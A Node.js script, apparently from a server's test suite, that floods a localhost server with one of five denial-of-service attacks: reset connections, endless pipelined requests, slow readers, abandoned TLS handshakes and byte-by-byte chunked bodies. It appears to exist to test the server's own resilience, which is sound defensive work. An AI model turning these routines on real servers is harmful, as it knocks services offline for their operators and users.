/**
 * Attacks a server in one way from one address, as fast as it can, until it is killed: see attacks.js.
 */
import { connect } from 'node:net';
import { parseArgs } from 'node:util';

import { clientHello, resetSocket } from '../support/http.js';

const { values, positionals } = parseArgs({
  allowPositionals: true,
  options: { port: { type: 'string' }, tls: { type: 'string' } }
});

/** The attacker's source address. */
const SOURCE_ADDRESS = '127.0.6.6';

/**
 * Keeps `count` connections open: opens a new one for each closed one.
 *
 * @param {number} count
 * @param {string} port
 * @param {(socket: import('node:net').Socket) => void} use called with each open connection
 */
function keepOpen(count, port, use) {
  const open = () => {
    const socket = connect({ port: Number(port), host: '127.0.0.1', localAddress: SOURCE_ADDRESS });
    socket.on('error', () => {});
    socket.once('connect', () => use(socket));
    socket.once('close', () => setImmediate(open));
  };
  for (let i = 0; i < count; i += 1) open();
}

/** Sends the same bytes repeatedly, as long as the socket accepts them. */
function sendForever(socket, bytes) {
  const sendMore = () => {
    while (!socket.destroyed && socket.write(bytes));
  };
  socket.on('drain', sendMore);
  sendMore();
}

const HEAD_END = 'Host: x\r\n\r\n';
const PIPELINED_REQUESTS = 500;
const hello = await clientHello();

// Paused sockets do not keep the process alive.
setInterval(() => {}, 1000);

const attacks = {
  /** Sends a whole request, a half one or none, and resets the connection. */
  resets() {
    const kinds = ['', 'POST /join HTTP/1.1\r\nContent-Le', `GET /nothing HTTP/1.1\r\n${HEAD_END}`];
    let connections = 0;
    keepOpen(64, values.port, (socket) => {
      connections += 1;
      socket.write(kinds[connections % kinds.length], () => resetSocket(socket));
    });
  },

  /** Sends endless requests that JavaScript handles, and reads the answers. */
  pipelining() {
    const bytes = Buffer.from(`GET /nothing HTTP/1.1\r\n${HEAD_END}`.repeat(PIPELINED_REQUESTS));
    keepOpen(64, values.port, (socket) => {
      socket.on('data', () => {});
      sendForever(socket, bytes);
    });
  },

  /** Requests the page many times, and reads no answer: the server has to buffer all of them. */
  'slow readers'() {
    const bytes = Buffer.from(`GET / HTTP/1.1\r\n${HEAD_END}`.repeat(PIPELINED_REQUESTS));
    keepOpen(1000, values.port, (socket) => {
      socket.pause();
      socket.write(bytes);
    });
  },

  /** Begins TLS handshakes, and resets after the server's certificate, which costs the server CPU. */
  handshakes() {
    keepOpen(64, values.tls, (socket) => {
      socket.write(hello);
      socket.once('data', () => resetSocket(socket));
    });
  },

  /** Sends bodies byte by byte, in chunks. */
  bodies() {
    keepOpen(1000, values.port, (socket) => {
      socket.write(`POST /throw/nobody/up HTTP/1.1\r\nTransfer-Encoding: chunked\r\n${HEAD_END}`);
      socket.on('data', () => {});
      const sendByte = () => {
        if (socket.destroyed) return;
        socket.write('1\r\n1\r\n');
        setTimeout(sendByte, 20);
      };
      sendByte();
    });
  }
};

attacks[positionals[0]]();
